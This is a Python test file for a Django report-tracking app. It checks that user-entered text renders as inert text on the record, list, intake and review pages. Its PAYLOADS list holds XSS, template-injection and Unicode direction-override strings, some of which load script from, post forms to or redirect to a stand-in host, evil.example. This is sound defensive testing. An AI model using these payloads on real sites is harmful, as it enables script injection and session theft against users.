"""User text renders inert (SECURITY goal 15): a corpus of hostile payloads saved through the storage layer into
every free-text field of a report, then the record page, the list, the intake's review step, the review queue
and the history are parsed — each payload is there as text, and no element, attribute, address or template
expression from it exists in the page."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from django_scopes import scopes_disabled

from bordermonitor.storage.audit import acting_as
from bordermonitor.storage.models import Report
from tests.storage.helpers import save

pytestmark = pytest.mark.django_db

# Every element in the corpus carries ``data-payload``: an element parsed from a payload would be found by it.
PAYLOADS = [
    '<script data-payload>alert("xss-1")</script>',
    "<img data-payload src=x onerror=alert(2)>",
    '<svg data-payload onload="alert(3)"><circle data-payload r="9"/></svg>',
    '<a data-payload href="javascript:alert(4)">open</a>',
    '"><script data-payload src="https://evil.example/x.js"></script>',
    "'><img data-payload src=x onerror='alert(6)'>",
    '" autofocus onfocus="alert(7)" data-payload x="',
    "javascript:alert(8)",
    '<iframe data-payload srcdoc="<script>alert(9)</script>"></iframe>',
    "<style data-payload>body{display:none}</style>",
    '<math data-payload><mtext><table><mglyph><style><img data-payload src=x onerror="alert(11)">',
    "<details data-payload open ontoggle=alert(12)>",
    "<!--<img data-payload src=x onerror=alert(13)>-->",
    "<![CDATA[<script data-payload>alert(14)</script>]]>",
    '<form data-payload action="https://evil.example"><button data-payload>send</button></form>',
    '<base data-payload href="https://evil.example/">',
    '<meta data-payload http-equiv="refresh" content="0;url=https://evil.example">',
    "{{ request.user.email }} {{ csrf_token }}",
    "{% load static %}{% csrf_token %}{% debug %}",
    "${alert(19)} #{alert(20)}",
    "\u202egnp.exe\u202c and \u2067isolate\u2069 and \u200fmark",
    "&lt;script data-payload&gt;alert(22)&lt;/script&gt; &amp;",
]


def _record(n: int, text: str) -> dict[str, Any]:
    return {
        "ref": f"nnk-payload-{n:02d}",
        "organisation": "nnk",
        "kind": "testimony",
        "status": "submitted",
        "recorded_on": "2024-05-02",
        "consent": {"publish": True, "share_with_network": True, "legal_use": True},
        "title": text,
        "narrative": {"text": text, "language": "en", "translation_en": text},
        "incident": {
            "date": "2024-05-01",
            "route": text,
            "location": {"place": text, "region": text, "country": "BA", "lat": 45.2, "lon": 15.8},
            "group": {"size": 3, "ages": text},
            "officers": {"description": text},
            "perpetrators": [{"authority": text, "unit": text, "description": text}],
            "violence": [{"type": "other", "detail": text}, {"type": "beating", "detail": text}],
        },
        "source": {"name": text, "url": text},
        "known_names": [text],
        "public": {"title": text, "narrative": text},
    }


QUIET = {"history", "review queue"}  # pages that do not show these fields (changes only; no titles)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def _parse(body: bytes) -> _Page:
    page = _Page()
    page.feed(body.decode())
    return page


@pytest.fixture
def payload_reports(network_world: dict[str, Report], store: Any) -> list[Report]:
    with scopes_disabled(), acting_as("cli"):
        save([_record(n, text) for n, text in enumerate(PAYLOADS)], store)
        return list(Report.objects.filter(ref__startswith="nnk-payload-").order_by("ref"))


def _inert(page: _Page, payload: str, where: str, *, shown: bool = True) -> None:
    text = "".join(page.text)
    if shown:
        assert payload.strip() in text, f"{where}: the payload is not shown as text"
    for tag, attrs in page.elements:
        assert "data-payload" not in attrs, f"{where}: a <{tag}> element from the payload"
        handlers = [name for name in attrs if name.startswith("on")]
        assert not handlers, f"{where}: {handlers} on <{tag}>"
        for name in ("href", "src", "action", "formaction", "srcdoc", "content"):
            value = (attrs.get(name) or "").lower()
            assert "javascript:" not in value and "evil.example" not in value, (
                f"{where}: <{tag} {name}={value}>"
            )
        if tag == "img":
            assert attrs.get("src") != "x", f"{where}: the payload's <img>"
        assert "autofocus" not in attrs or tag in {"input", "textarea", "select"}, where
        assert "style" not in attrs, f"{where}: a style attribute on <{tag}>"
    assert all("alert(" not in script for script in page.scripts), f"{where}: a script with the payload"


def test_the_corpus_is_stored_as_given(payload_reports: list[Report]) -> None:
    assert [r.title for r in payload_reports] == [p.strip() for p in PAYLOADS]
    assert all(r.narrative_text == r.title for r in payload_reports)


def test_every_payload_renders_inert_on_every_page(payload_reports: list[Report], login: Any) -> None:
    reviewer = login("reviewer@nnk.test")
    problems = []
    for payload, report in zip(PAYLOADS, payload_reports, strict=True):
        pages = {
            "record": f"/reports/{report.pk}/",
            "history": f"/reports/{report.pk}/history/",
            "intake review": f"/reports/{report.pk}/edit/submit/",
            "intake narrative": f"/reports/{report.pk}/edit/narrative/",
        }
        for where, url in pages.items():
            response = reviewer.get(url)
            assert response.status_code == 200, where
            try:
                _inert(_parse(response.content), payload, where, shown=where not in QUIET)
            except AssertionError as problem:
                problems.append(f"{report.ref} {problem}")
    for where, url in (("list", "/reports/"), ("review queue", "/review/")):  # every payload on one page
        page = _parse(reviewer.get(url).content)
        for payload in PAYLOADS:
            try:
                _inert(page, payload, where, shown=where not in QUIET)
            except AssertionError as problem:
                problems.append(str(problem))
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize(
    "page",
    [
        "record",
        "intake review",
        "list",
    ],
)
def test_direction_overrides_stay_inside_the_text_they_came_with(
    payload_reports: list[Report], login: Any, page: str
) -> None:
    """U+202E (right-to-left override) in a title must not reverse what the page writes after it: every
    element holding user text isolates its direction (dir="auto" or <bdi>)."""
    report = next(r for r in payload_reports if "\u202e" in (r.title or ""))
    url = {
        "record": f"/reports/{report.pk}/",
        "intake review": f"/reports/{report.pk}/edit/submit/",
        "list": "/reports/",
    }[page]
    parsed = _Isolation()
    parsed.feed(login("reviewer@nnk.test").get(url).content.decode())
    assert parsed.seen, url
    assert not parsed.unisolated, f"{url}: user text outside an isolating element: {parsed.unisolated[:3]}"


class _Isolation(HTMLParser):
    """Records each text node holding U+202E and whether an enclosing element isolates its direction."""

    VOID = {
        "area",
        "base",
        "br",
        "col",
        "embed",
        "hr",
        "img",
        "input",
        "link",
        "meta",
        "source",
        "track",
        "wbr",
    }

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[tuple[str, bool]] = []
        self.seen = 0
        self.unisolated: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.VOID:
            # a form field shows its value in its own box, isolated from the page
            isolates = tag in {"bdi", "textarea"} or any(name == "dir" for name, _ in attrs)
            self.stack.append((tag, isolates))

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data: str) -> None:
        if "\u202e" not in data:
            return
        self.seen += 1
        # an element round the text must isolate it (the page's own <html dir> does not count)
        if not any(isolates for tag, isolates in self.stack if tag not in {"html", "body"}):
            where = "/".join(tag for tag, _ in self.stack[-3:])
            self.unisolated.append(where)
